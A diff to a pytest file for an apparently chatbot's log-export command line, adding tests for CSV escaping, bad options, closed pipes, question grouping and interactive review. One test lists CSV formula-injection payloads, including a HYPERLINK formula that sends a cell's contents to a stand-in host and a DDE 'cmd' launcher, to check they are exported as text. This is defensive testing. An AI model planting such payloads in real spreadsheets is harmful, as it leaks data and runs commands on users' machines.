@@ -10,8 +10,10 @@ import subprocess
 import sys
 from pathlib import Path
 
+import pytest
 import yaml
 
+from bot import logs_cli
 from bot.answer import Responder
 from bot.reports import CSV_HEADER, csv_row, entry_stubs, group_questions
 from bot.storage import COLUMNS, Storage, now_iso
@@ -38,6 +40,18 @@ def test_csv_round_trip_with_awkward_text() -> None:
     row.update(id=1, question='gaji "tidak" dibayar,\nkenapa?', kind="fallback")
     parsed = list(csv.DictReader(io.StringIO(CSV_HEADER + csv_row(row))))
     assert parsed[0]["question"] == 'gaji "tidak" dibayar,\nkenapa?' and parsed[0]["kind"] == "fallback"
+
+
+FORMULAS = ['=HYPERLINK("http://x/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3"]
+
+
+@pytest.mark.parametrize("question", FORMULAS)
+def test_a_formula_in_a_question_is_exported_as_text(question: str) -> None:
+    """A question a spreadsheet would run as a formula is written with a leading apostrophe."""
+    row = dict.fromkeys(COLUMNS, "")
+    row.update(id=1, question=question, kind="fallback", feedback=-1)
+    parsed = next(csv.DictReader(io.StringIO(CSV_HEADER + csv_row(row))))
+    assert parsed["question"] == "'" + question and parsed["feedback"] == "-1" and parsed["kind"] == "fallback"
 
 
 def test_entry_stubs_are_yaml_with_the_grouped_phrasings(responder: Responder) -> None:
@@ -86,13 +100,15 @@ def test_logs_commands_over_a_database(tmp_path: Path) -> None:
     asyncio.run(_fill(tmp_path / "bot.sqlite3", 3))
     listed = [json.loads(line) for line in logs(tmp_path, "list", "--format", "jsonl").stdout.splitlines()]
     assert len(listed) == 5 and listed[0]["question"].startswith("question number 2")
-    exported = list(csv.DictReader(io.StringIO(logs(tmp_path, "export", "--kind", "fallback").stdout)))
+    text = logs(tmp_path, "export", "--kind", "fallback").stdout
+    assert text.startswith("\ufeffid,")  # spreadsheets read it as UTF-8
+    exported = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
     assert [r["question"] for r in exported] == ["gaji tidak dibayar"]
     recent = logs(tmp_path, "export", "--format", "jsonl", "--since", "2021-01-01").stdout.splitlines()
     assert len(recent) == 4
     stubs = yaml.safe_load(logs(tmp_path, "unanswered", "--format", "yaml").stdout)
-    assert stubs["entries"][0]["questions"]["en"] == ["gaji tidak dibayar"]
-    assert "messages from 1 users" in logs(tmp_path, "stats").stdout
+    assert stubs["entries"][0]["questions"] == {"en": ["TODO: English phrasings"], "id": ["gaji tidak dibayar"]}
+    assert "messages from 1 user." in logs(tmp_path, "stats").stdout
 
 
 def test_logs_bad_date_and_missing_database(tmp_path: Path) -> None:
@@ -124,3 +140,53 @@ def test_export_memory_does_not_grow_with_the_log(tmp_path: Path) -> None:
     asyncio.run(_fill(large / "bot.sqlite3", 200_000))
     grown = _peak_rss_kb(large) - _peak_rss_kb(small)
     assert grown < 15_000, f"export memory grew by {grown} KB for 100× the rows"
+
+
+@pytest.mark.parametrize("args", [("list", "--kind", "bogus"), ("stats", "--days", "0"), ("list", "--days", "x")])
+def test_a_bad_option_is_refused_not_ignored(tmp_path: Path, args: tuple[str, ...]) -> None:
+    """An unknown kind or a day count under 1 is a usage error (exit 2), not an empty or default report."""
+    asyncio.run(_fill(tmp_path / "bot.sqlite3", 1))
+    done = logs(tmp_path, *args)
+    assert done.returncode == 2 and "Traceback" not in done.stderr
+
+
+def test_export_into_a_closed_pipe_is_quiet(tmp_path: Path) -> None:
+    """`logs export | head -2` ends without an error message or a traceback."""
+    asyncio.run(_fill(tmp_path / "bot.sqlite3", 3000))
+    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT), "MIGRANT_BOT_DATA_DIR": str(tmp_path)}
+    done = subprocess.run(f"'{sys.executable}' -m bot logs export | head -2", shell=True, capture_output=True,
+                          text=True, cwd=ROOT, env=env, timeout=300)  # fmt: skip
+    assert len(done.stdout.splitlines()) == 2 and done.stderr == ""
+
+
+def test_a_one_word_message_is_not_grouped_with_a_question_holding_it(responder: Responder) -> None:
+    """ "1" alone and "berapa gaji minimum 1 bulan" are two groups, not one."""
+    groups = group_questions([_row("1"), _row("berapa gaji minimum 1 bulan")], responder.normalizer)
+    assert len(groups) == 2
+
+
+def test_review_stops_cleanly_at_the_end_of_input(tmp_path: Path) -> None:
+    """No more input (</dev/null, Ctrl-D): "Stopped.", the verdicts given so far kept, no traceback."""
+    answers = iter(["x", "c", ""])
+
+    def ask(_: str) -> str:
+        try:
+            return next(answers)
+        except StopIteration:
+            raise EOFError from None
+
+    async def scenario() -> str:
+        await _fill(tmp_path / "bot.sqlite3", 2)
+        storage = Storage(tmp_path / "bot.sqlite3")
+        await storage.open()
+        out = io.StringIO()
+        try:
+            await logs_cli._review(storage, out, ask=ask, reply_of=lambda row: f"reply to {row['question']}")
+            assert await storage.unreviewed() == 3
+        finally:
+            await storage.close()
+        return out.getvalue()
+
+    text = asyncio.run(scenario())
+    assert "[1 of 4]" in text and "please answer c, w, n, s or q" in text and "reply to " in text
+    assert "Stopped." in text and "1 verdict(s) saved." in text
